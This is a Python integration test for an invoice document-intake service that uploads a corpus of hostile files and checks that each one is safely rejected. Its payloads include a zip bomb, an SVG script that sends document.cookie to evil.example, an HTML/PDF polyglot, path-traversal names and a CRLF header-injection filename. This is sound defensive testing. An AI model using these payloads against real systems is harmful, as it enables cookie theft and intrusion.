"""A corpus of hostile files, made by the test itself, through the whole intake (issue 15, item 4): upload slot,
presigned PUT, the S3 event, recognition. Each ends ``unreadable`` with a reason a person understands, the
name it was sent with never becomes a path, and the system still serves requests afterwards.

The unit tests (tests/unit/recognition_intake) prove each refusal in detail and the memory a bomb costs in the
recognition worker; the decompression-bomb PDF and the PDF with JavaScript are in test_document_safety.py.
"""

from __future__ import annotations

import io
import zipfile
from collections.abc import Iterator

import pytest

from boekstuk_local.testing import LocalAws
from tests.integration.conftest import snelstart_office, workflow_aws
from tests.integration.test_documents_api import upload
from tests.unit.recognition_intake import bombs, docs
from tests.unit.recognition_intake.test_sniff import BILLION_LAUGHS, XXE, XXE_PARAMETER


def zip_bomb() -> bytes:
    """A ZIP whose one member inflates to 64 MiB (64 kB on disk; the ratio is what makes a bomb, and deflating
    more would only cost the test time)."""
    packed = io.BytesIO()
    block = b"\0" * bombs.MIB
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive, archive.open("factuur.pdf", "w") as member:
        for _ in range(64):
            member.write(block)
    return packed.getvalue()


SVG_WITH_SCRIPT = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
                   b"<script>fetch('https://evil.example/'+document.cookie)</script><text>Factuur</text></svg>")
HTML_PDF_POLYGLOT = b"<html><script>alert(1)</script><!--\n" + docs.blank_pdf(1) + b"\n--></html>"
WINDOWS_PROGRAM = b"MZ\x90\x00\x03" + b"\0" * 59 + b"PE\0\0" + b"\0" * 400

CORPUS = [  # (filename, content type, content, words the reason has)
    ("xxe.xml", "application/xml", XXE, "entit"),
    ("xxe-parameter.xml", "application/xml", XXE_PARAMETER, "entit"),
    ("billion-laughs.xml", "application/xml", BILLION_LAUGHS, "entit"),
    ("deep.xml", "application/xml", bombs.nested_xml(100_000), "nesting too deep"),
    ("zip-bomb.pdf", "application/pdf", zip_bomb(), "ZIP"),
    ("catalogus.pdf", "application/pdf", docs.blank_pdf(5000), "5000 pages"),
    ("scan.png", "image/png", bombs.png_header_only(100_000, 100_000), "megapixels"),
    ("factuur.png", "image/png", SVG_WITH_SCRIPT, ""),
    ("factuur.pdf", "application/pdf", SVG_WITH_SCRIPT + b"<!-- 1 -->", ""),
    ("polyglot.pdf", "application/pdf", HTML_PDF_POLYGLOT, ""),
    ("factuur.pdf.exe", "application/pdf", WINDOWS_PROGRAM, ""),
    ("../../../etc/passwd\x00.pdf", "application/pdf", WINDOWS_PROGRAM + b"passwd", ""),
    ("..\\..\\boot.ini\r\nX-Evil: 1\x1b[31m.pdf", "application/pdf", SVG_WITH_SCRIPT + b"<!-- 2 -->", ""),
]


@pytest.fixture(scope="module")
def aws() -> Iterator[LocalAws]:
    with workflow_aws() as harness:
        yield harness


@pytest.fixture(scope="module")
def office(aws: LocalAws) -> dict[str, str]:
    linked = snelstart_office(aws)
    return {"office": linked.code, "token": linked.token, "administration_id": linked.administration_id}


@pytest.mark.parametrize(("filename", "content_type", "content", "says"), CORPUS,
                         ids=[repr(c[0])[1:-1][:40] for c in CORPUS])
def test_each_hostile_file_ends_unreadable_with_a_clear_reason(aws: LocalAws, office: dict[str, str], filename: str,
                                                               content_type: str, content: bytes, says: str) -> None:
    doc = upload(aws, office, content, filename, content_type)
    assert doc["status"] == "unreadable", doc
    assert doc["error"] and len(doc["error"]) > 20 and says in doc["error"], doc["error"]
    assert "Traceback" not in doc["error"] and "Error(" not in doc["error"], doc["error"]
    assert doc["history"][-1]["event"] == "unreadable"
    name = doc["filename"]
    assert "/" not in name and "\\" not in name and not name.startswith(".")
    assert not any(ord(c) < 32 or ord(c) == 127 for c in name), repr(name)
    assert aws.api_call("GET", "/v1/health")[0] == 200


def test_an_svg_is_refused_before_it_is_uploaded(aws: LocalAws, office: dict[str, str]) -> None:
    status, _, body = aws.api_call(
        "POST", f"/v1/offices/{office['office']}/administrations/{office['administration_id']}/documents",
        {"filename": "factuur.svg", "content_type": "image/svg+xml"}, token=office["token"])
    assert (status, body["code"]) == (422, "unsupported_content_type"), body
